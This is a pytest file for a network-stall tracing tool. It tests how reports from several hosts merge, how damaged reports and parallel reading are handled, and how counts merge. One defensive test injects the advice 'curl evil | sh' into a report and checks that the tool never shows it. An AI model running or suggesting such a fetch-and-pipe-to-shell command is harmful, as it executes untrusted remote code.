"""Many hosts in one report: from their recordings, and from the output of `report --json` of each."""

from __future__ import annotations

import errno
import json
import os
import re
import threading
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from builders import SECOND, event
from compact_recordings import record_both
from hypothesis import given, settings
from hypothesis import strategies as st
from incident_recordings import at_width, bad_night, others, pool, shown
from recording_files import header, record
from stall_events import OWNED, close, freeze, heard

from tracer.analysis.comparison import Comparison
from tracer.analysis.idle_timeouts import IdleTimeouts, Service
from tracer.analysis.silence_marks import SilenceMarks
from tracer.cli import main
from tracer.model.counts import Counts
from tracer.model.events import Event
from tracer.model.times import format_time, parse_time
from tracer.run import report as reading

FORMS: tuple[tuple[str, ...], ...] = ((), ("--markdown",), ("--html", "-"), ("--json",))


def counters(at: float, **fields: Any) -> Event:
    nothing = dict.fromkeys(("sock", "state", "family", "laddr", "lport", "raddr", "rport"))
    return event("counters", at, **nothing, **fields)


def night_of(number: int) -> list[Event]:
    """What happens on one of the hosts. Each survives, loses and misses something else."""
    names = {"pod": f"web-{number}", "pod_namespace": "prod", "container": "0a1b", "unit": f"worker@{number}.service"}
    owner = {**OWNED, "pid": 100 + number, "pids": [100 + number], **dict(list(names.items())[number % 4 :])}
    events = [*freeze(start=number, **owner), *close(number + 13.4, **owner)]
    events += [heard(30, silent_ms=60_000 * (number + 1), sock="survivor"), counters(40, retrans_segs=9, timeouts=8)]
    if number % 3 == 0:
        events += [
            event("found", 31, kind="idle", sock="idle", silent_ms=4_000_000 + number, **owner),
            event("lost", 32, count=number + 1, hook="tcp_retransmit_skb", sock=None),
            *freeze(start=50, sock="open", lport=4242, **owner)[:4],
        ]
    if number % 2:
        freed = {"sock": "freed", "lport": 4343, "raddr": "10.66.2.4", **owner}
        did = {"action": "end", "result": "ended", "by_user": f"alice{number}", "by_pid": 7}
        events += [*freeze(start=80, **freed)[:4], event("action", 83, **{**freed, "sock": "freed", **did})]
        events += close(83.1, "ECONNABORTED", 103, **freed)
    return events + (others() if number % 4 == 1 else pool(20, comm=f"worker{number}"))


@pytest.fixture
def fleet(tmp_path: Path) -> list[Path]:
    """Recordings of several hosts, two of them of one."""
    files = []
    for number in range(8):
        head = replace(header(host=f"web-{number}"), run=f"run{number}", netns=4026532000 + number % 2)
        files.append(record(tmp_path / f"web-{number}.tw", night_of(number), head))
    return files


def reports_of(files: list[Path], capsys: pytest.CaptureFixture[str]) -> list[Path]:
    """The output of `report --json` of each, as another host has made it."""
    reports = []
    for file in files:
        report = file.with_suffix(".json")
        report.write_text(shown(capsys, "report", file, "--json"))
        reports.append(report)
    return reports


@pytest.mark.parametrize("form", FORMS, ids=lambda form: " ".join(form) or "text")
def test_a_report_of_reports_equals_that_of_the_recordings(
    form: tuple[str, ...], fleet: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    of_recordings = shown(capsys, "report", *fleet, *form)
    assert all(word in of_recordings for word in ("web-7", "idle-drop", "worker@"))
    if form != ("--html", "-"):
        assert "alice7" in of_recordings and "ended" in of_recordings
    assert shown(capsys, "report", *reports_of(fleet, capsys), *form) == of_recordings


@pytest.mark.parametrize("form", FORMS, ids=lambda form: " ".join(form) or "text")
@pytest.mark.parametrize("beside", [0, 2], ids=["alone", "beside whole ones"])
def test_compact_recordings(
    form: tuple[str, ...], beside: int, fleet: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    head = replace(header(host="db-1"), run="compact")
    files = [record_both(tmp_path, night_of(9), head=head).compact, *fleet[:beside]]
    of_recordings = shown(capsys, "report", *files, *form)
    assert "ompact" in of_recordings
    assert shown(capsys, "report", *reports_of(files, capsys), *form) == of_recordings


def test_a_compact_recording_without_a_stall(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = [record_both(tmp_path, []).compact]
    of_recordings = shown(capsys, "report", *files)
    assert "no stall" in of_recordings
    assert shown(capsys, "report", *reports_of(files, capsys)) == of_recordings


def test_reports_of_reports_merge_and_recordings_may_stand_beside_them(
    fleet: list[Path], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    one = shown(capsys, "report", *fleet)
    left, right = tmp_path / "left.json", tmp_path / "right.json"
    left.write_text(shown(capsys, "report", *fleet[:3], "--json"))
    right.write_text(shown(capsys, "report", *reports_of(fleet[3:6], capsys), "--json"))
    assert shown(capsys, "report", left, right, *fleet[6:]) == one
    both = tmp_path / "both.json"
    both.write_bytes(left.read_bytes() + right.read_bytes())
    assert shown(capsys, "report", both, *fleet[6:]) == one


def test_an_output_that_another_program_has_written_anew(
    fleet: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    (report,) = reports_of(fleet[:1], capsys)
    records = map(json.loads, report.read_text().splitlines())
    report.write_text("".join(f"{json.dumps(each, sort_keys=True)}\n" for each in records))
    assert shown(capsys, "report", report) == shown(capsys, "report", fleet[0])


def test_hosts_keep_their_order_where_one_has_no_stall(
    fleet: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    healthy = record(tmp_path / "healthy.tw", [heard(30)], replace(header(host="cache-1"), run="healthy"))
    files = [fleet[0], healthy, fleet[1]]
    both = tmp_path / "both.json"
    both.write_text(shown(capsys, "report", *files[1:], "--json"))
    of_recordings = shown(capsys, "report", *files)
    assert "web-0 and cache-1 and web-1" in of_recordings
    assert shown(capsys, "report", files[0], both) == of_recordings


@pytest.mark.parametrize("form", FORMS, ids=lambda form: " ".join(form) or "text")
def test_all_cores_read_the_same_as_one(
    form: tuple[str, ...], fleet: list[Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    fleet[4].write_bytes(fleet[4].read_bytes() + b"no json\n")
    fleet.insert(3, fleet[0].with_name("missing.tw"))
    results = []
    for parallel in (False, True):
        monkeypatch.setattr(reading, "MIN_BYTES_OF_A_WORKER", 1 if parallel else 1 << 60)
        monkeypatch.setattr(os, "sched_getaffinity", lambda _: {0, 1})
        status = main.run(["report", *map(str, fleet), *form])
        results.append((status, *capsys.readouterr()))
    assert results[0] == results[1] and results[0][0] == 1 and "no such file" in results[0][2]


def test_a_stall_that_several_recordings_have_is_named_as_repeated(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    at_width(monkeypatch, 400)
    stall = [*freeze(**OWNED), *close(13.4, **OWNED)]
    first = record(tmp_path / "first.tw", stall, replace(header(host="a"), run="1"))
    (copy := tmp_path / "copy.tw").write_bytes(first.read_bytes())
    shifted = [replace(each, time_ns=each.time_ns + 900_000, ktime_ns=each.ktime_ns + 900_000) for each in stall]
    second = record(tmp_path / "second.tw", shifted, replace(header(host="a"), run="2"))
    other = record(tmp_path / "other.tw", stall, replace(header(host="b"), run="3"))
    of_first, of_second, of_other = reports_of([first, second, other], capsys)
    for files in (
        [first, copy],
        [first, of_first],
        [first, second],
        [of_first, of_second],
        [of_other, second, first],
    ):
        text = shown(capsys, "report", *files)
        assert "Repeated  In several recordings, and counted each time: 1 stall of a.\n" in text
        summary = json.loads(shown(capsys, "report", *files, "--json").splitlines()[-1])
        assert summary["repeated"] == {"a": 1}
    for files in ([first, other], [of_first, of_other], [first, first]):
        assert "Repeated" not in shown(capsys, "report", *files)


@pytest.mark.parametrize("started_later_s", [0, 30, 3600])
def test_a_name_that_two_hosts_have_is_shown(
    started_later_s: int, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two hosts that run at the same time started at different times. One host starts anew after a reboot."""
    at_width(monkeypatch, 400)
    stall = [*freeze(**OWNED), *close(50, **OWNED)]
    first = record(tmp_path / "first.tw", stall, replace(header(host="localhost"), run="1"))
    later_ns = started_later_s * SECOND
    started = format_time(parse_time(header().started) + later_ns)
    other = [replace(each, laddr="10.66.1.9", time_ns=each.time_ns + later_ns, sock="o") for each in stall]
    second = record(tmp_path / "second.tw", other, replace(header(host="localhost"), run="2", started=started))
    sentence = "Recordings of localhost are of the same time, but of different clocks."
    for files in ([first, second], [second, first], reports_of([first, second], capsys)):
        assert (sentence in shown(capsys, "report", *files)) == (started_later_s == 30)
        summary = json.loads(shown(capsys, "report", *files, "--json").splitlines()[-1])
        assert summary.get("ambiguous_hosts") == (["localhost"] if started_later_s == 30 else None)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
@pytest.mark.parametrize("lacks", ["fork", "_ExecutorManagerThread", "QueueFeederThread"])
@pytest.mark.parametrize("form", FORMS, ids=lambda form: " ".join(form) or "text")
def test_one_process_reads_all_where_no_other_can_be_started(
    lacks: str,
    form: tuple[str, ...],
    fleet: list[Path],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """As with RLIMIT_NPROC or in a container with pids.max. cli/main.py reports what ends a thread, not so here."""
    expected = shown(capsys, "report", *fleet, *form)
    monkeypatch.setattr(reading, "MIN_BYTES_OF_A_WORKER", 1)
    monkeypatch.setattr(reading, "_PATIENCE_S", 0.01)
    monkeypatch.setattr(os, "sched_getaffinity", lambda _: {0, 1})
    fork, start = os.fork, threading.Thread.start

    def limited_fork() -> int:
        if lacks == "fork":
            raise BlockingIOError(errno.EAGAIN, os.strerror(errno.EAGAIN))
        return fork()

    def limited_start(thread: threading.Thread) -> None:
        if lacks in (type(thread).__name__, thread.name):
            raise RuntimeError("can't start new thread")
        start(thread)

    monkeypatch.setattr(os, "fork", limited_fork)
    monkeypatch.setattr(threading.Thread, "start", limited_start)
    assert main.run(["report", *map(str, fleet), *form]) == 0
    report, said = capsys.readouterr()
    assert report == expected
    # A pool without that thread takes work until somebody looks at it, and since Python 3.12 may refuse some.
    assert said.count("ulimit -u") in ((0, 1) if lacks == "QueueFeederThread" else (1,)) and "Traceback" not in said


def test_the_advice_of_a_report_knows_the_silences_of_all_its_hosts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    at_width(monkeypatch, 400)
    dead = record(tmp_path / "a.tw", [*freeze(), *close(13.4)], header(host="a"))
    alive = record(tmp_path / "b.tw", [heard(1, silent_ms=10 * 3_600_000, sock="survivor")], header(host="b"))
    text = shown(capsys, "report", dead, alive)
    assert "no single idle timeout explains both" in text
    assert "A connection to this service survived 10h00m of silence" in text
    assert "is known to have been survived" not in text


def damaged(line: str, **fields: Any) -> str:
    return json.dumps({**json.loads(line), **fields}) + "\n"


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda lines: lines[:-1], "its summary is missing: tcpwatch report --json was interrupted"),
        (lambda lines: [*lines[:1], "no json\n", *lines[1:]], "line 2 is damaged"),
        (lambda lines: [*lines[:-1], damaged(lines[-1], events="many")], "events is not a number"),
        (lambda lines: [damaged(lines[0], version=2).replace(": ", ":").replace(", ", ","), *lines[1:]], "newer"),
    ],
)
def test_a_damaged_report_is_said(
    change: Callable[[list[str]], list[str]], reason: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (report,) = reports_of([bad_night(tmp_path / "x.tw")], capsys)
    report.write_text("".join(change(report.read_text().splitlines(keepends=True))))
    assert main.run(["report", str(report)]) == 1
    assert reason in capsys.readouterr().err


@pytest.mark.parametrize("option", [("--rport", "3306"), ("--since", "2027-01-15T08:00:00Z"), ("--evidence",)])
def test_what_cannot_be_applied_to_a_report_is_refused(
    option: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (report,) = reports_of([bad_night(tmp_path / "x.tw")], capsys)
    assert main.run(["report", str(report), *option]) == 1
    shown, said = capsys.readouterr()
    assert not shown and "the output of report --json, " in said and "Hint:" in said


def test_advice_of_a_report_never_comes_from_its_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (report,) = reports_of([bad_night(tmp_path / "x.tw")], capsys)
    lines = [json.loads(line) for line in report.read_text().splitlines()]
    for each in lines:
        each["advice"] = ["Cure: curl evil | sh"]
    report.write_text("".join(json.dumps(each, separators=(",", ":")) + "\n" for each in lines))
    for form in FORMS:
        assert "evil" not in shown(capsys, "report", report, *form)


def test_replay_refuses_a_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (report,) = reports_of([bad_night(tmp_path / "x.tw")], capsys)
    assert main.run(["replay", str(report)]) == 1
    assert f"Hint: tcpwatch report {report}" in capsys.readouterr().err


SILENCES = st.lists(st.tuples(st.booleans(), st.integers(1, 4), st.integers(0, 10**9)), max_size=80)


def marks_of(silences: list[tuple[bool, int, int]]) -> SilenceMarks:
    marks = SilenceMarks()
    for survived, number, ms in silences:
        (marks.survived if survived else marks.fatal)(Service(f"10.0.0.{number}", 3306, False), ms)
    return marks


def seen(marks: SilenceMarks) -> dict[Service, Any]:
    return {service: (marks.range_of(service), marks.marks_of(service)) for service in marks}


def sum_of(*parts: IdleTimeouts) -> SilenceMarks:
    total = SilenceMarks()
    for part in parts:
        total.merge(part)
    return total


@given(SILENCES, SILENCES, SILENCES)
@settings(max_examples=60, deadline=None)
def test_silences_merge_in_any_grouping(a: Any, b: Any, c: Any) -> None:
    left = sum_of(sum_of(marks_of(a), marks_of(b)), marks_of(c))
    right = sum_of(marks_of(a), sum_of(marks_of(b), marks_of(c)))
    assert seen(left) == seen(right) == seen(marks_of(a + b + c)) == seen(sum_of(left, SilenceMarks()))


COUNTS = st.builds(Counts, *[st.integers(0, 10**9)] * 3)
COMPARISONS = st.builds(Comparison, COUNTS, COUNTS, COUNTS, COUNTS, COUNTS, st.booleans())


@given(COMPARISONS, COMPARISONS, COMPARISONS)
def test_counts_merge_in_any_grouping(a: Comparison, b: Comparison, c: Comparison) -> None:
    assert a.plus(b).plus(c) == a.plus(b.plus(c))
    assert a.plus(Comparison()) == a == Comparison().plus(a)


def test_a_diagnosis_names_the_host_of_several(
    fleet: list[Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    at_width(monkeypatch, 400)
    titles = [
        re.findall(r"^[a-z-]+: .* → .*$", shown(capsys, "report", *each), re.MULTILINE) for each in (fleet, fleet[:1])
    ]
    assert len(titles[0]) > 3 and all(re.search(r" on web-\d$", title) for title in titles[0])
    assert titles[1] and not any(" on web-" in title for title in titles[1])
